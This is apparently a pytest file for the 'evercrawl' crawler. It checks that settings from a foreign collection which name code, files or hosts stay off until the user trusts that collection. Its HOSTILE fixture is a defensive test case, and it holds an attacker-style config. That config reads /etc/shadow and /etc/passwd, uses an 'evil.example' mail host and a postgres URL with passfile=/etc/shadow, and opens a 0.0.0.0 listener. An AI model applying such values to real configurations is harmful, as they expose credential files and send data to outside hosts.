"""Collections of others: their settings that name code, files or machines are off until the user trusts them."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from evercrawl.config import create_collection, read_settings
from evercrawl.config.schema import known_settings
from evercrawl.config.trust import MARK_FILE, TRUST_VARIABLE, distrust_collection, find_distrust, trust_collection
from evercrawl.errors import ConfigError

HOSTILE = """\
[scope]
seeds = ["https://example.org/"]
plugins = ["antigravity:fly"]
exclude_hosts_file = "/etc/passwd"
access_log = "/etc/shadow"
[http]
ca_file = "/etc/ssl/evil.pem"
allow_private = true
resolve = ["example.org:443:127.0.0.1"]
[alerts]
mail_host = "evil.example"
mail_password_file = "/etc/shadow"
[archive]
url = "file:///etc"
[store]
url = "postgresql://evil.example/db?passfile=/etc/shadow"
[analysis]
analysers = ["antigravity:fly"]
[outposts]
listen = "0.0.0.0:7443"
[dns]
servers = ["127.0.0.1"]
[pace]
delay = "3s"
"""
NAMING = (
    "file",
    "url",
    "access_log",
    "plugins",
    "analysers",
    "listen",
    "servers",
    "resolve",
    "host",
    "user",
    "private",
    "tls",
)
"""What the names of settings end with that name code, files or machines."""


@pytest.fixture(autouse=True)
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    monkeypatch.delenv(TRUST_VARIABLE, raising=False)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    return dict(os.environ)


@pytest.fixture
def foreign(tmp_path: Path) -> Path:
    """Return a collection that was unpacked here."""
    folder = tmp_path / "foreign.evercrawl"
    folder.mkdir()
    (folder / "collection.toml").write_text(HOSTILE)
    return folder


def test_settings_that_name_code_files_or_machines_are_off(foreign: Path) -> None:
    loaded = read_settings(foreign)
    settings = loaded.settings
    assert not settings.is_trusted
    assert settings.scope.plugins == () == settings.analysis.analysers
    assert settings.scope.exclude_hosts_file is settings.scope.access_log is None
    assert settings.http.ca_file is None
    assert not settings.http.allow_private
    assert settings.http.resolve == ()
    assert settings.alerts.mail_host is settings.alerts.mail_password_file is None
    assert settings.archive.url is settings.store.url is settings.outposts.listen is None
    assert settings.dns.servers == ()
    assert settings.pace.delay is not None
    assert settings.scope.seeds == ("https://example.org/",)
    assert loaded.distrust is not None
    message = loaded.distrust.message()
    assert "alerts.mail_password_file" in message
    assert f"evercrawl trust {foreign}" in message


def test_every_setting_that_names_something_outside_needs_trust() -> None:
    open_ones = [
        key for key, known in known_settings().items() if known.name.endswith(NAMING) and not known.needs_trust
    ]
    assert open_ones == []


def test_what_the_user_sets_holds_in_any_collection(foreign: Path, env: dict[str, str]) -> None:
    env = {**env, "EVERCRAWL_HTTP__CA_FILE": "/my/ca.pem"}
    settings = read_settings(foreign, env=env, flags={"http.allow_private": "true"}).settings
    assert settings.http.ca_file == "/my/ca.pem"
    assert settings.http.allow_private


def test_trust_holds_until_it_is_removed(foreign: Path, env: dict[str, str]) -> None:
    trust_collection(foreign, env)
    assert read_settings(foreign).settings.http.ca_file == "/etc/ssl/evil.pem"
    assert not read_settings(foreign, untrusted=True).settings.is_trusted
    assert distrust_collection(foreign, env)
    assert find_distrust(foreign, env) is not None


def test_your_own_new_collection_is_trusted(tmp_path: Path, env: dict[str, str]) -> None:
    create_collection(tmp_path / "own")
    assert find_distrust(tmp_path / "own", env) is None


def test_settings_created_beside_files_of_others_are_not_trusted(tmp_path: Path, env: dict[str, str]) -> None:
    (tmp_path / "prepared").mkdir()
    (tmp_path / "prepared" / "alerts.sqlite").write_bytes(b"")
    create_collection(tmp_path / "prepared")
    assert find_distrust(tmp_path / "prepared", env) is not None


def test_another_collection_at_a_trusted_path_is_not_trusted(foreign: Path, env: dict[str, str]) -> None:
    trust_collection(foreign, env)
    (foreign / MARK_FILE).write_text("0" * 32)
    assert find_distrust(foreign, env) is not None
    (foreign / MARK_FILE).unlink()
    assert find_distrust(foreign, env) is not None


def test_a_copy_elsewhere_is_not_trusted(tmp_path: Path, foreign: Path, env: dict[str, str]) -> None:
    trust_collection(foreign, env)
    foreign.rename(tmp_path / "moved")
    assert find_distrust(tmp_path / "moved", env) is not None


@pytest.mark.skipif(os.getuid() != 0, reason="only root can give files away")
def test_a_collection_given_to_another_user_is_not_trusted(foreign: Path, env: dict[str, str]) -> None:
    trust_collection(foreign, env)
    os.chown(foreign, 12345, 12345)
    found = find_distrust(foreign, env)
    assert found is not None
    assert "another user" in found.reason


def test_the_variable_names_trusted_folders(tmp_path: Path, foreign: Path, env: dict[str, str]) -> None:
    assert find_distrust(foreign, {**env, TRUST_VARIABLE: f"/nowhere:{tmp_path}"}) is None
    assert find_distrust(foreign, {**env, TRUST_VARIABLE: f"{tmp_path}/fore"}) is not None


@pytest.mark.parametrize("name", ["archive", "state", "evercrawl.log", "lock", "archive/s00-000001.warc.gz"])
def test_links_are_refused(tmp_path: Path, foreign: Path, name: str) -> None:
    (foreign / name).parent.mkdir(exist_ok=True)
    (foreign / name).symlink_to(tmp_path)
    with pytest.raises(ConfigError, match="is a link"):
        read_settings(foreign)


def test_special_files_are_refused(foreign: Path) -> None:
    os.mkfifo(foreign / "evercrawl.log")
    with pytest.raises(ConfigError, match="special file"):
        read_settings(foreign)


@pytest.mark.parametrize("name", ["archive/objects", "state/postgres"])
def test_addresses_in_files_are_refused_unless_the_user_gave_them(
    foreign: Path, name: str, env: dict[str, str]
) -> None:
    (foreign / name).parent.mkdir()
    (foreign / name).write_text("file:///etc\n" if name.startswith("archive") else "postgresql://other/db\n")
    with pytest.raises(ConfigError, match="names a place outside"):
        read_settings(foreign)
    own = {"EVERCRAWL_ARCHIVE__URL": "file:///etc", "EVERCRAWL_STORE__URL": "postgresql://other/db"}
    read_settings(foreign, env={**env, **own})
